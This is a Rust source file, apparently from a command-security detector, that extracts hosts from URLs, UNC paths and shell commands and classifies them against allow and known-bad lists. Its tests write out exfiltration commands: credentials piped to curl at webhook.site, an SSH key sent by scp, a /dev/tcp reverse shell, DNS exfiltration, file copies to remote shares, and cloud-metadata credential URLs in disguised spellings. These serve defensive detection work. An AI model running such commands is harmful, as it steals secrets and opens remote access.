//! Hosts: URL and host extraction, allowlist and known-bad classification.
//!
//! [`classify`] places a host on the allowlist, the known-bad list, or
//! neither, after folding it to its canonical spelling (`host.rs`: decimal,
//! hex and octal IPv4, IPv4-mapped IPv6, trailing dots, case). [`host_of`]
//! and [`urls_in`] read hosts and URLs out of text. The connections a command
//! makes are `endpoints.rs`.

pub use super::endpoints::{endpoints, Endpoint};
use super::host;
use super::taxonomy::Taxonomy;
use regex::Regex;
use std::sync::OnceLock;

/// Where a host stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HostClass {
    /// localhost, 127.0.0.0/8, ::1, 0.0.0.0: not a network egress.
    Loopback,
    Allowed,
    /// Not on either list; `ip` when it is a raw IP literal.
    Unlisted {
        ip: bool,
    },
    Bad,
}

/// Classifies a host (any spelling, no port).
pub fn classify(host: &str, tax: &Taxonomy) -> HostClass {
    let Some(h) = host::canonical(host) else {
        return HostClass::Loopback;
    };
    if let Some(ip) = h.ip {
        if host::is_loopback(ip) {
            return HostClass::Loopback;
        }
        if tax.known_bad.contains(&h.name) {
            return HostClass::Bad;
        }
        if tax.allow.contains(&h.name) {
            return HostClass::Allowed;
        }
        return HostClass::Unlisted { ip: true };
    }
    let n = h.name.as_str();
    if n == "localhost" || n.ends_with(".localhost") {
        return HostClass::Loopback;
    }
    if tax.known_bad.contains(n) {
        HostClass::Bad
    } else if tax.allow.contains(n) {
        HostClass::Allowed
    } else {
        HostClass::Unlisted { ip: false }
    }
}

fn url_re() -> Option<&'static Regex> {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    RE.get_or_init(|| {
        crate::lazyre::note_compile();
        Regex::new(r#"(?i)\b(?:https?|wss?|ftp|sftp)://[^\s'"<>`)\]}\\]+"#).ok()
    })
    .as_ref()
}

/// Every `scheme://…` URL in a text.
pub fn urls_in(text: &str) -> Vec<String> {
    match url_re() {
        Some(re) => re
            .find_iter(text)
            .map(|m| m.as_str().trim_end_matches(['.', ',', ';']).to_string())
            .collect(),
        None => Vec::new(),
    }
}

/// Names without a dot that are hosts wherever they are used: loopback, and the
/// short name cloud VMs resolve to their metadata service.
const SINGLE_LABEL_HOSTS: &[&str] = &["localhost", "metadata"];

/// The host of a UNC path (`\\host\share`, `//host/share`, WebDAV's
/// `\\host@SSL@443\dav`), without its `@SSL` / `@port` tail.
pub fn unc_host(p: &str) -> Option<&str> {
    let rest = p.strip_prefix("\\\\").or_else(|| p.strip_prefix("//"))?;
    let host = rest.split(['\\', '/']).next()?;
    let host = host.split('@').next()?;
    (!host.is_empty() && host != "?" && host != "." && !host.contains(':')).then_some(host)
}

/// The host of a URL (`https://user@Host:443/x` → `host`), or of a bare
/// `host/path`, in canonical form.
pub fn host_of(url: &str) -> Option<String> {
    let s = url.trim();
    let rest = match s.find("://") {
        Some(i) => &s[i + 3..],
        None => s.strip_prefix("//").unwrap_or(s),
    };
    // Browsers and curl read `\` as `/` in http URLs.
    let auth = rest.split(['/', '?', '#', '\\']).next()?;
    let auth = auth.rsplit('@').next()?;
    // `http://169.254.170.2$CREDS_PATH`: an address written out, then an expansion
    // (the rest of the URL); only a literal address before it names the host.
    let (auth, expanded) = match auth.find(['$', '`']) {
        Some(i) => (&auth[..i], true),
        None => (auth, false),
    };
    let host = if let Some(v6) = auth.strip_prefix('[') {
        v6.split(']').next()?.to_string()
    } else if auth.matches(':').count() > 1 {
        auth.to_string() // a bare IPv6 address
    } else {
        auth.split(':').next()?.to_string()
    };
    let h = host::canonical(&host)?;
    if expanded && h.ip.is_none() {
        return None;
    }
    let name = h.name;
    let ok = !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-' || c == ':' || c == '_')
        && (name.contains('.')
            || name.contains(':')
            || SINGLE_LABEL_HOSTS.contains(&name.as_str())
            || h.ip.is_some());
    if ok {
        Some(name)
    } else {
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::shell::parse_script;
    use crate::detect::taxonomy::{DetectionConfig, Taxonomy};

    fn tax() -> Taxonomy {
        Taxonomy::load(&DetectionConfig::default()).expect("tax")
    }

    fn eps(s: &str) -> Vec<Endpoint> {
        let t = tax();
        let sc = parse_script(s, &t);
        sc.commands.iter().flat_map(|c| endpoints(c, &t)).collect()
    }

    #[test]
    fn hosts_and_classes() {
        let t = tax();
        assert_eq!(
            host_of("https://u:p@Example.COM:8443/x?y"),
            Some("example.com".into())
        );
        assert_eq!(host_of("http://[::1]:80/"), Some("::1".into()));
        assert_eq!(classify("127.0.0.1", &t), HostClass::Loopback);
        assert_eq!(classify("pypi.org", &t), HostClass::Allowed);
        assert_eq!(classify("webhook.site", &t), HostClass::Bad);
        assert_eq!(
            classify("203.0.113.7", &t),
            HostClass::Unlisted { ip: true }
        );
        assert_eq!(
            classify("evil.example", &t),
            HostClass::Unlisted { ip: false }
        );
        assert_eq!(
            urls_in("see https://a.b/c, and http://x.y."),
            vec!["https://a.b/c", "http://x.y"]
        );
    }

    #[test]
    fn sending_versus_fetching() {
        let e = eps("curl -s https://pypi.org/simple/requests/");
        assert_eq!(e.len(), 1);
        assert!(!e[0].sends);
        let e = eps("curl -X POST -d @/tmp/x https://evil.example/up");
        assert!(e[0].sends);
        assert_eq!(e[0].host, "evil.example");
        let e = eps("cat ~/.aws/credentials | base64 | curl -d @- https://webhook.site/abc");
        assert!(e.iter().any(|x| x.sends && x.host == "webhook.site"));
        let e = eps("curl \"https://evil.example/?d=$(cat ~/.netrc | base64)\"");
        assert!(e.iter().any(|x| x.sends));
        let e = eps("scp ~/.ssh/id_rsa attacker@203.0.113.9:/tmp/");
        assert!(e[0].sends && e[0].host == "203.0.113.9");
        let e = eps("bash -i >& /dev/tcp/198.51.100.4/4444 0>&1");
        assert!(e.iter().any(|x| x.host == "198.51.100.4"));
        let e = eps("git clone https://github.com/rust-lang/log.git");
        assert_eq!(e[0].host, "github.com");
        assert!(!e[0].sends);
        let e = eps("nslookup $(whoami).x.oast.fun");
        assert!(e.iter().any(|x| x.sends && x.host == "oast.fun"));
    }

    #[test]
    fn cloud_metadata_in_its_other_spellings_is_known_bad() {
        let t = tax();
        for url in [
            "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
            "http://metadata/computeMetadata/v1/instance/service-accounts/default/token",
            "http://[fd00:ec2::254]/latest/meta-data/",
            "http://169.254.169.254.nip.io/latest/meta-data/",
            "http://a9fea9fe.nip.io/latest/user-data",
        ] {
            let h = host_of(url).unwrap_or_default();
            assert_eq!(classify(&h, &t), HostClass::Bad, "{url} -> {h}");
        }
        // a whole host from an expansion is not guessed; plain short names are not hosts
        assert_eq!(host_of("http://$HOST/x"), None);
        assert_eq!(host_of("http://api:8000/v1"), None);
        assert_eq!(classify("127.0.0.1.nip.io", &t), HostClass::Loopback);
    }

    #[test]
    fn copies_to_a_share_send_to_its_host() {
        assert_eq!(
            unc_host(r"\\files.example@SSL@443\dav"),
            Some("files.example")
        );
        assert_eq!(unc_host("//203.0.113.9/drop/k"), Some("203.0.113.9"));
        assert_eq!(unc_host("/home/u/x"), None);
        let sent = |s: &str| -> Vec<(String, bool)> {
            eps(s).into_iter().map(|e| (e.host, e.sends)).collect()
        };
        assert_eq!(
            sent("cp ~/.netrc //203.0.113.9/drop/n"),
            vec![("203.0.113.9".to_string(), true)]
        );
        assert_eq!(
            sent(r#"powershell -c "Copy-Item ~\.netrc \\share.example\d\""#),
            vec![("share.example".to_string(), true)]
        );
        // a file taken from a share is not sent there; a local copy reaches nothing
        assert_eq!(
            sent("cp //share.example/pub/tool.zip ."),
            vec![("share.example".to_string(), false)]
        );
        assert!(sent("cp a.txt b.txt").is_empty());
        // a cmd.exe line typed as a shell line: its backslashes are separators
        assert_eq!(
            sent(r"copy %USERPROFILE%\.aws\credentials \\192.0.2.61\loot\c"),
            vec![("192.0.2.61".to_string(), true)]
        );
        assert_eq!(
            sent(r"xcopy %USERPROFILE%\.ssh \\files.example\drop\ /s /y"),
            vec![("files.example".to_string(), true)]
        );
        let from = sent(r"copy \\buildserver.example\releases\app.exe build\");
        assert!(!from.is_empty(), "{from:?}");
        assert!(
            from.iter().all(|(h, s)| h == "buildserver.example" && !s),
            "{from:?}"
        );
    }
}
